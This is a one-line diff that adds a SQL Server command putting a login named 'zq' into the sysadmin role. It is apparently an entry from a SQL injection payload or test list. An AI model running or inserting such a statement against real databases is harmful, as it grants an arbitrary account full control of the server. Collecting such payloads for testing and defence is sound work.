@@ -1,0 +1,1 @@
+sp_addsrvrolemember N'zq', sysadmin
